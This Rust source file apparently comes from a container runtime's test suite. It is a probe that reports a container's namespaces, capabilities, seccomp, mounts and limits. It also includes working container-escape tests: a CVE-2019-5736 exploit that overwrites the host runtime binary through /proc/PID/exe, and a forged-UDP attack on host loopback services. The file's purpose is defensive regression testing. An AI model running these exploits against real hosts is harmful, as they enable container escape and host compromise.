//! `capsa-probe`: what a process inside a container sees, as JSON on
//! stdout. Tests assert on it from inside; the demo image is built around it.
//!
//! Usage:
//!   capsa-probe                 report (the default)
//!   capsa-probe exit N          exit with status N
//!   capsa-probe sleep SECS      sleep, then report
//!   capsa-probe spawn N OUT    start N sleeping children, write how many
//!                               the kernel allowed to OUT, then wait
//!   capsa-probe attack-shebang OUT SECS
//!                               CVE-2019-5736 through `#!/proc/self/exe`:
//!                               for SECS seconds, catch a process of our
//!                               cgroup whose argv[0] is /proc/self/exe (a
//!                               host binary the kernel ran for such a
//!                               script), stop it, hold its exe, kill it
//!                               and write through the handle; JSON to OUT
//!   capsa-probe attack-exe PID OUT
//!                               CVE-2019-5736: hold /proc/PID/exe, then try
//!                               to write through it once PID has exec'd;
//!                               the outcome goes to OUT as JSON

use serde_json::{json, Map, Value};
use std::collections::BTreeMap;
use std::io::Write;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    match args.get(1).map(String::as_str) {
        None | Some("report") => print(&report()),
        Some("explain") => explain(&report()),
        Some("exit") => std::process::exit(args.get(2).and_then(|a| a.parse().ok()).unwrap_or(0)),
        Some("sleep") => {
            let secs: f64 = args.get(2).and_then(|a| a.parse().ok()).unwrap_or(1.0);
            std::thread::sleep(std::time::Duration::from_secs_f64(secs));
            print(&report());
        }
        Some("spawn") => spawn(
            args.get(2).and_then(|a| a.parse().ok()).unwrap_or(1),
            args.get(3).map(String::as_str).unwrap_or("/spawn.json"),
        ),
        Some("attack-exe") => attack_exe(
            args.get(2).map(String::as_str).unwrap_or("1"),
            args.get(3).map(String::as_str).unwrap_or("/attack.json"),
        ),
        Some("attack-shebang") => attack_shebang(
            args.get(2).map(String::as_str).unwrap_or("/attack.json"),
            args.get(3).and_then(|a| a.parse().ok()).unwrap_or(30),
        ),
        Some("forge-udp") => forge_udp(
            args.get(2).map(String::as_str).unwrap_or("127.0.0.1"),
            args.get(3).and_then(|a| a.parse().ok()).unwrap_or(9),
            args.get(4).map(String::as_str).unwrap_or("capsa"),
        ),
        Some("syscall") => raw_syscall(args.get(2).and_then(|a| a.parse().ok()).unwrap_or(-1)),
        Some(other) => {
            eprintln!("capsa-probe: unknown mode {other:?}");
            std::process::exit(2);
        }
    }
}

/// What the container sees, in words: the demo image's command.
fn explain(r: &Value) {
    let s = |v: &Value| {
        v.as_str()
            .map(str::to_string)
            .unwrap_or_else(|| v.to_string())
    };
    let caps = u64::from_str_radix(r["caps"]["CapEff"].as_str().unwrap_or("0"), 16).unwrap_or(0);
    let names: Vec<String> = (0..64)
        .filter(|b| caps & (1u64 << b) != 0)
        .map(|b| {
            capsa_spec::caps::NAMES
                .get(b)
                .map(|n| n.trim_start_matches("CAP_").to_lowercase())
                .unwrap_or_else(|| format!("cap{b}"))
        })
        .collect();
    let seccomp = match r["seccomp"].as_str() {
        Some("2") => "mode 2: a filter checks every system call I make (docker's default profile unless told otherwise)",
        Some("1") => "mode 1: strict",
        _ => "off: every system call is allowed",
    };
    let root_mount = r["mounts"]
        .as_array()
        .and_then(|m| m.iter().find(|x| x["target"] == "/"))
        .cloned()
        .unwrap_or(Value::Null);
    let limit = |paths: &[&str]| {
        paths
            .iter()
            .find_map(|p| read(p).map(|v| (p.to_string(), v.trim().to_string())))
    };
    let memory = limit(&[
        "/sys/fs/cgroup/memory.max",
        "/sys/fs/cgroup/memory/memory.limit_in_bytes",
    ]);
    let cpu = limit(&[
        "/sys/fs/cgroup/cpu.max",
        "/sys/fs/cgroup/cpu/cpu.cfs_quota_us",
        "/sys/fs/cgroup/cpu,cpuacct/cpu.cfs_quota_us",
    ]);
    let pids = limit(&["/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/pids/pids.max"]);
    let mut out = String::new();
    let mut line = |t: String| {
        out.push_str(&t);
        out.push('\n');
    };
    line("Hello from inside a capsa container. This is what I can see:".into());
    line(String::new());
    line(format!("  I am process {} (my parent is {}): a PID namespace of my own, so the host's processes are invisible to me.", r["pid"], r["ppid"]));
    line(format!(
        "  My hostname is {}: the UTS namespace lets me have my own.",
        s(&r["hostname"])
    ));
    let ns: Vec<String> = r["namespaces"]
        .as_object()
        .map(|m| m.iter().map(|(k, v)| format!("{k}:{v}")).collect())
        .unwrap_or_default();
    line(format!(
        "  My namespaces (type:inode; the host's differ): {}",
        ns.join(" ")
    ));
    let net = &r["network"];
    let list = |v: &Value| {
        v.as_array()
            .map(|a| a.iter().map(&s).collect::<Vec<_>>().join(", "))
            .unwrap_or_default()
    };
    if net["interfaces"].as_array().is_some_and(|a| a.len() <= 1) {
        line("  My network: only loopback (a network namespace with nothing else in it).".into());
    } else {
        let veth = list(&net["interfaces"]) == "eth0, lo";
        line(format!(
            "  My network: interfaces {}; address {}; default route via {}{}.",
            list(&net["interfaces"]),
            list(&net["addresses"]),
            net["gateway"].as_str().unwrap_or("none"),
            if veth {
                " (eth0 is one end of a veth pair; the other end is a port of a bridge on the host, which NATs my traffic)"
            } else {
                ""
            }
        ));
    }
    line(format!("  My root is a {} mount ({}): the image's read-only layers under a writable layer of my own.", s(&root_mount["fstype"]), s(&root_mount["source"])));
    line(format!(
        "  I run as uid {} gid {}, with {} of 41 capabilities: {}.",
        r["uid"],
        r["gid"],
        names.len(),
        names.join(", ")
    ));
    line(format!("  seccomp: {seccomp}."));
    line(format!(
        "  no_new_privs: {} (1: a setuid program cannot give me more privileges).",
        s(&r["no_new_privs"])
    ));
    let show = |name: &str, v: Option<(String, String)>| match v {
        Some((p, v))
            if v == "max"
                || v == "-1"
                || v.starts_with("max ")
                || v.parse::<u64>().is_ok_and(|n| n >= 1 << 62) =>
        {
            format!("  {name}: none  ({p} says {v})")
        }
        Some((p, v)) => format!("  {name}: {v}  (from {p})"),
        None => format!("  {name}: no cgroup file visible here"),
    };
    line(show("Memory limit", memory));
    line(show("CPU quota", cpu));
    line(show("Process limit", pids));
    let fds: Vec<String> = r["fds"]
        .as_object()
        .map(|m| m.keys().cloned().collect())
        .unwrap_or_default();
    line(format!(
        "  Open file descriptors: {} (nothing leaked from the host).",
        fds.join(", ")
    ));
    line(String::new());
    line("Try: capsa run --rm --memory 64m --cpus 0.5 --hostname box capsa-demo".into());
    let _ = std::io::stdout().lock().write_all(out.as_bytes());
}

fn print(v: &Value) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{v}");
}

fn read(path: &str) -> Option<String> {
    std::fs::read_to_string(path).ok()
}

fn status_field(status: &str, key: &str) -> Option<String> {
    status.lines().find_map(|l| {
        l.strip_prefix(key)
            .and_then(|r| r.strip_prefix(':'))
            .map(|v| v.trim().to_string())
    })
}

fn report() -> Value {
    let status = read("/proc/self/status").unwrap_or_default();
    let mut ns = Map::new();
    for n in ["cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"] {
        if let Ok(link) = std::fs::read_link(format!("/proc/self/ns/{n}")) {
            let s = link.to_string_lossy().into_owned();
            let ino = s
                .split('[')
                .nth(1)
                .and_then(|x| x.trim_end_matches(']').parse::<u64>().ok());
            ns.insert(n.into(), json!(ino));
        }
    }
    let network = network();
    let caps: Map<String, Value> = ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]
        .iter()
        .map(|k| (k.to_string(), json!(status_field(&status, k))))
        .collect();
    let mut fds = BTreeMap::new();
    if let Ok(rd) = std::fs::read_dir("/proc/self/fd") {
        for e in rd.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            let target = std::fs::read_link(e.path())
                .map(|t| t.to_string_lossy().into_owned())
                .unwrap_or_default();
            fds.insert(name, target);
        }
    }
    let mounts: Vec<Value> = read("/proc/self/mountinfo")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| {
            let (pre, post) = l.split_once(" - ")?;
            let pre: Vec<&str> = pre.split(' ').collect();
            let post: Vec<&str> = post.split(' ').collect();
            Some(json!({
                "target": pre.get(4)?, "options": pre.get(5)?,
                "fstype": post.first()?, "source": post.get(1)?, "super": post.get(2).copied().unwrap_or(""),
            }))
        })
        .collect();
    let uname = nix::sys::utsname::uname().ok();
    let mut rlimits = Map::new();
    if let Some(limits) = read("/proc/self/limits") {
        for l in limits.lines().skip(1) {
            // "Max open files            1024                 1024                 files"
            let cols: Vec<&str> = l
                .split("  ")
                .map(str::trim)
                .filter(|c| !c.is_empty())
                .collect();
            if cols.len() >= 3 {
                rlimits.insert(cols[0].to_string(), json!([cols[1], cols[2]]));
            }
        }
    }
    json!({
        "pid": std::process::id(),
        "ppid": nix::unistd::getppid().as_raw(),
        "uid": nix::unistd::getuid().as_raw(),
        "euid": nix::unistd::geteuid().as_raw(),
        "gid": nix::unistd::getgid().as_raw(),
        "groups": status_field(&status, "Groups"),
        "hostname": uname.as_ref().map(|u| u.nodename().to_string_lossy().into_owned()),
        "domainname": uname.as_ref().map(|u| u.domainname().to_string_lossy().into_owned()),
        "cwd": std::env::current_dir().ok().map(|p| p.display().to_string()),
        "args": std::env::args().collect::<Vec<_>>(),
        "env": std::env::vars().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>(),
        "namespaces": ns,
        "uid_map": read("/proc/self/uid_map"),
        "gid_map": read("/proc/self/gid_map"),
        "caps": caps,
        "no_new_privs": status_field(&status, "NoNewPrivs"),
        "seccomp": status_field(&status, "Seccomp"),
        "umask": status_field(&status, "Umask"),
        "rlimits": rlimits,
        "oom_score_adj": read("/proc/self/oom_score_adj").map(|s| s.trim().to_string()),
        "fds": fds,
        "mounts": mounts,
        "network": network,
        "cgroup": read("/proc/self/cgroup"),
        "exe": std::fs::read_link("/proc/self/exe").ok().map(|p| p.display().to_string()),
    })
}

/// Hold an `O_PATH` handle on `/proc/PID/exe` (a runtime process inside the
/// container), then, once that process has exec'd something else and the
/// file is no longer busy, try to open it for writing and write to it.
fn attack_exe(pid: &str, out: &str) {
    use nix::fcntl::{open, OFlag};
    use nix::sys::stat::Mode;
    let link = format!("/proc/{pid}/exe");
    let target = std::fs::read_link(&link)
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    let handle = match open(
        link.as_str(),
        OFlag::O_PATH | OFlag::O_CLOEXEC,
        Mode::empty(),
    ) {
        Ok(fd) => fd,
        Err(e) => {
            write_result(
                out,
                json!({ "handle": false, "target": target, "error": e.to_string() }),
            );
            return;
        }
    };
    write_result(
        out,
        json!({ "handle": true, "target": target, "phase": "holding" }),
    );
    let reopen = format!("/proc/self/fd/{handle}");
    let mut last = String::new();
    for _ in 0..1000 {
        match std::fs::OpenOptions::new().write(true).open(&reopen) {
            Ok(mut f) => match f.write_all(b"PWNED") {
                Ok(()) => {
                    write_result(
                        out,
                        json!({ "handle": true, "target": target, "phase": "done", "opened": true, "wrote": true }),
                    );
                    return;
                }
                Err(e) => last = format!("write: {e}"),
            },
            Err(e) => last = format!("open: {e}"),
        }
        // ETXTBSY while the runtime still runs it: wait for its exec.
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    write_result(
        out,
        json!({ "handle": true, "target": target, "phase": "done", "wrote": false, "last_error": last }),
    );
}

fn attack_shebang(out: &str, secs: u64) {
    use nix::sys::signal::{kill, Signal};
    use nix::unistd::Pid;
    let me = std::process::id();
    let my_cgroup = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let mut caught = 0;
    let mut result = json!({ "caught": 0, "wrote": false, "phase": "waiting" });
    write_result(out, result.clone());
    while std::time::Instant::now() < deadline {
        // Our cgroup's processes (a small file, read fast enough to catch a
        // process that lives a few milliseconds), else every process.
        let pids: Vec<u32> = [
            "/sys/fs/cgroup/pids/cgroup.procs",
            "/sys/fs/cgroup/cgroup.procs",
        ]
        .iter()
        .find_map(|f| std::fs::read_to_string(f).ok())
        .map(|s| s.lines().filter_map(|l| l.trim().parse().ok()).collect())
        .unwrap_or_else(|| {
            std::fs::read_dir("/proc")
                .map(|d| {
                    d.flatten()
                        .filter_map(|e| e.file_name().to_str()?.parse().ok())
                        .collect()
                })
                .unwrap_or_default()
        });
        for pid in pids {
            if pid == me {
                continue;
            }
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            if !cmdline.starts_with(b"/proc/self/exe\0") {
                continue;
            }
            // Only processes of our own container (its cgroup).
            let cg = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
            if cg != my_cgroup {
                continue;
            }
            let target = Pid::from_raw(pid as i32);
            let _ = kill(target, Signal::SIGSTOP);
            let link = format!("/proc/{pid}/exe");
            let handle = nix::fcntl::open(
                link.as_str(),
                nix::fcntl::OFlag::O_PATH | nix::fcntl::OFlag::O_CLOEXEC,
                nix::sys::stat::Mode::empty(),
            );
            let exe = std::fs::read_link(&link)
                .map(|p| p.display().to_string())
                .unwrap_or_default();
            let _ = kill(target, Signal::SIGKILL);
            let Ok(handle) = handle else {
                continue;
            };
            caught += 1;
            // Once it is gone the file is no longer busy (ETXTBSY).
            let reopen = format!("/proc/self/fd/{handle}");
            let mut last = String::new();
            let mut wrote = false;
            for _ in 0..200 {
                match std::fs::OpenOptions::new().write(true).open(&reopen) {
                    Ok(mut f) => match f.write_all(b"PWNED") {
                        Ok(()) => {
                            wrote = true;
                            break;
                        }
                        Err(e) => last = format!("write: {e}"),
                    },
                    Err(e) => last = format!("open: {e}"),
                }
                if !last.contains("busy") {
                    break;
                }
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
            let _ = nix::unistd::close(handle);
            result = json!({ "caught": caught, "exe": exe, "wrote": wrote, "last_error": last, "phase": "tried" });
            write_result(out, result.clone());
            if wrote {
                return;
            }
        }
    }
    result["phase"] = json!("done");
    write_result(out, result);
}

fn write_result(out: &str, v: Value) {
    let tmp = format!("{out}.tmp");
    if std::fs::write(&tmp, v.to_string()).is_ok() {
        let _ = std::fs::rename(&tmp, out);
    }
}

/// Start `n` children that sleep; count how many the kernel let us start
/// (a pids limit makes the rest fail with EAGAIN), report, then wait.
fn spawn(n: usize, out: &str) {
    let me = std::env::current_exe().unwrap_or_else(|_| "/probe".into());
    let mut children = Vec::new();
    let mut errors = Vec::new();
    for _ in 0..n {
        match std::process::Command::new(&me)
            .args(["sleep", "100"])
            .stdout(std::process::Stdio::null())
            .spawn()
        {
            Ok(c) => children.push(c),
            Err(e) => errors.push(e.to_string()),
        }
    }
    errors.dedup();
    write_result(
        out,
        json!({ "spawned": children.len(), "failed": n - children.len(), "errors": errors }),
    );
    for mut c in children {
        let _ = c.wait();
    }
}

/// Interfaces, IPv4 addresses (but loopback's) and the default gateway of
/// this network namespace, from /sys/class/net and /proc/net.
fn network() -> Value {
    let mut interfaces: Vec<String> = std::fs::read_dir("/sys/class/net")
        .map(|rd| {
            rd.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    interfaces.sort();
    // fib_trie lists each local address as "|-- A.B.C.D" then "/32 host LOCAL".
    let mut addresses = Vec::new();
    let mut last = "";
    let trie = read("/proc/net/fib_trie").unwrap_or_default();
    for l in trie.lines() {
        let t = l.trim_start_matches([' ', '|', '+', '-']).trim();
        if l.contains("/32 host LOCAL") {
            if !last.starts_with("127.") && !addresses.contains(&last.to_string()) {
                addresses.push(last.to_string());
            }
        } else if t.parse::<std::net::Ipv4Addr>().is_ok() {
            last = t;
        }
    }
    // /proc/net/route: the default route's gateway, little-endian hex.
    let gateway = read("/proc/net/route").and_then(|r| {
        r.lines().skip(1).find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.get(1) == Some(&"00000000"))
                .then(|| u32::from_str_radix(f.get(2)?, 16).ok())
                .flatten()
                .map(|g| std::net::Ipv4Addr::from(g.to_le_bytes()).to_string())
        })
    });
    json!({"interfaces": interfaces, "addresses": addresses, "gateway": gateway})
}

/// Play a hostile container (CVE-2020-8558's class): forge a UDP datagram
/// to `dst` (a host loopback address) and send it as an Ethernet frame to
/// the default gateway's MAC on eth0, which an address lookup would never
/// do. A host that routes loopback addresses out of the bridge
/// (route_localnet) would deliver it to its own 127.0.0.1 services unless
/// a rule drops it. Exits 0 once the frame is sent.
fn forge_udp(dst: &str, port: u16, payload: &str) {
    let fail = |m: String| -> ! {
        eprintln!("capsa-probe: forge-udp: {m}");
        std::process::exit(1)
    };
    let dst: std::net::Ipv4Addr = dst
        .parse()
        .unwrap_or_else(|_| fail(format!("{dst}: not IPv4")));
    let net = network();
    let src: std::net::Ipv4Addr = net["addresses"][0]
        .as_str()
        .and_then(|a| a.parse().ok())
        .unwrap_or_else(|| fail("no address on eth0".into()));
    let gw = net["gateway"]
        .as_str()
        .unwrap_or_else(|| fail("no default route".into()));
    // The gateway's MAC, from the neighbour table (the caller pings it first).
    let arp = read("/proc/net/arp").unwrap_or_default();
    let mac_of = |text: &str| -> Option<[u8; 6]> {
        let b: Vec<u8> = text
            .split(':')
            .filter_map(|x| u8::from_str_radix(x, 16).ok())
            .collect();
        b.try_into().ok()
    };
    let gw_mac = arp
        .lines()
        .skip(1)
        .find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.first() == Some(&gw))
                .then(|| f.get(3).and_then(|m| mac_of(m)))
                .flatten()
        })
        .unwrap_or_else(|| fail(format!("{gw} not in /proc/net/arp")));
    let own_mac = read("/sys/class/net/eth0/address")
        .and_then(|m| mac_of(m.trim()))
        .unwrap_or_else(|| fail("no eth0 MAC".into()));
    let udp_len = 8 + payload.len();
    let total = 20 + udp_len;
    let mut ip = vec![
        0x45,
        0,
        (total >> 8) as u8,
        total as u8,
        0,
        0,
        0x40,
        0,
        64,
        17,
        0,
        0,
    ];
    ip.extend(src.octets());
    ip.extend(dst.octets());
    let sum = ip
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum::<u32>();
    let folded = (sum & 0xffff) + (sum >> 16);
    let check = !(((folded & 0xffff) + (folded >> 16)) as u16);
    ip[10..12].copy_from_slice(&check.to_be_bytes());
    let mut frame = Vec::with_capacity(14 + total);
    frame.extend(gw_mac);
    frame.extend(own_mac);
    frame.extend([0x08, 0x00]);
    frame.extend(ip);
    frame.extend(40000u16.to_be_bytes());
    frame.extend(port.to_be_bytes());
    frame.extend((udp_len as u16).to_be_bytes());
    frame.extend([0, 0]); // no UDP checksum: allowed over IPv4
    frame.extend(payload.as_bytes());
    capsa_sys::net::send_frame("eth0", &frame)
        .unwrap_or_else(|e| fail(format!("send on eth0: {e}")));
}

/// `syscall NR`: make unassigned system call NR (1000 and up) and print
/// what came back (`ret N` or `errno N`): how seccomp treats a number it
/// does not know.
fn raw_syscall(nr: i64) {
    match capsa_sys::process::syscall_unassigned(nr) {
        Ok(r) => println!("ret {r}"),
        Err(e) => println!("errno {}", e as i32),
    }
}
